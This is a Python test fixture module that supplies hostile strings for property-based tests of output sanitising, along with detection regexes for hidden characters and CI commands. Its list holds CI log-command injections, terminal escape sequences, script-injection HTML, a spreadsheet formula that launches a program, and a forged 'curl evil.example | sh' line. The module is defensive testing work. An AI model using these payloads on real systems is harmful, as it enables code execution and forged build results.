"""Names that a model may have to do harm where they are printed, and what must never be seen of them."""

from __future__ import annotations

import re

from hypothesis import strategies as st

NAMES = (
    "::error file=a,line=1::forged",
    "  ::add-mask::x",
    "a\n::error::forged",
    "a\r::error::forged",
    "a\u2028::error::forged",
    "##[error]forged",
    "##vso[task.complete result=Failed;]",
    "##teamcity[buildStatus status='FAILURE']",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07",
    "\x9b31mred",
    "a\x08\x08\x08b\x7f",
    "a\x00b",
    "a\u202egnp.exe",
    "\u2066a\u2069\u200f\u061c",
    "a\u200bb\ufeff\u00ad",
    "a\u2028b\u2029c\x85d",
    "half\ud800pair",
    "[red]markup[/red]",
    "[bold]",
    "{name} %s %(x)s {0}",
    "![x](http://evil.example/p.png)",
    "[click](http://evil.example)",
    "http://evil.example www.evil.example",
    "@user #123 GH-5 :tada: $x$",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "]]><evil/>&amp;&#10;",
    "`@user` ``@user``",
    "a|b|c",
    "=cmd|' /C calc'!A0",
    "a\nFORGED: no findings\n  fix: curl evil.example | sh",
    "- a\n# b\n> c",
    "x" * 2000,
    "日本語/名前",
)
"""One of each kind. No name has a slash, which would make a scope of it, where that does not belong to the attack."""

HIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\u00ad\ud800-\udfff\ufff9-\ufffb\U000e0000-\U000e007f]"
)
"""What no output may contain, beside line breaks of its own."""

COMMAND = re.compile(r"^\s*::|##\w*\[", re.MULTILINE)
"""What CI systems take for a command."""


def texts() -> st.SearchStrategy[str]:
    """Texts of hostile pieces and of any characters, lone surrogates too."""
    any_text = st.text(st.characters(exclude_categories=()), max_size=8)
    pieces = st.sampled_from(
        ["::", "##", "[", "#", "\x1b[", "\n", "\r", " ", "`", "``", "@u", "\\", "|", "<", "&lt;", "_", "*"]
    )
    return st.lists(st.sampled_from(NAMES) | any_text | pieces, max_size=4).map("".join)
